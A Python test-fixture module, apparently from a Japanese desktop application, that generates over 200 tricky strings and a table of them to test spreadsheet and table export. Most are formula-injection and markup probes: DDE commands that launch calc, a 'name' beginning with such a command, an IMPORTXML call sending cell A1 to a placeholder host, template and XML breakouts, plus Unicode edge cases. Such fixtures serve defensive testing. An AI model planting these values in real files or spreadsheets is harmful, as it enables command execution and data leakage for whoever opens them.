"""Texts that programs might take for something else, 200 and more, and tables made of them."""

from __future__ import annotations

import datetime as dt
from collections.abc import Sequence
from itertools import product
from typing import Final

from kyodo_desktop.papers.tables.values import Column, TableView

_HEADS: Final = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r\n=",
    " =",
    "＝",
    "＋",
    "－",
    "＠",
    "'",
    "'=",
    "''+",
    "\0=",
    "",
)
_BODIES: Final = (
    'HYPERLINK("http://x.invalid","押す")',
    "cmd|' /C calc'!A0",
    "1+1",
    'IMPORTXML(CONCAT("http://x.invalid/?",A1),"//a")',
    "SUM(A1:A9)*cmd|'/c'!A1",
    '<b>太字</b>&amp;"]]><!--',
    "{{7*7}} ${7*7} #{7*7}",
    "_x0041_ _x000D_ #N/A",
    "<f>1+1</f></t></is></c>",
    '改行\nと"引用"、,;\tタブ',
    "𠮷田 辻\U000e0100子 髙﨑",
    "0123",
)
NAMES: Final = (
    "辻\U000e0100 太郎",
    "𠮷野 家",
    "\ufa10\ufa19\ufa1b",
    "=cmd|' /C calc'!A0",
    "寿限無" * 300,
    "007 ボンド",
)
PAYLOADS: Final = (
    *(head + body for head, body in product(_HEADS, _BODIES)),
    *NAMES,
    "+81480000000",
    "-5",
    "1E5",
    "令和7年10月1日",
    "2025/11/14",
    "TRUE",
    "￥1,000",
    "½",
    " 前後の空白 ",
    "\u3000",
    "制御\x01\x1f文字",
    "非文字\ufffe\uffff",
    "半角ｶﾅ ～〜－−",
)
DAY: Final = dt.date(2025, 11, 14)


def texts(these: Sequence[str] = PAYLOADS) -> TableView:
    """A table of texts alone, each beside its number."""
    return TableView(
        title="=文字 & <b>一覧</b>",
        day=DAY,
        columns=(Column("番号"), Column("=見出し", 24), Column("幅はおまかせ")),
        rows=tuple((place, one, one) for place, one in enumerate(these, 1)),
    )
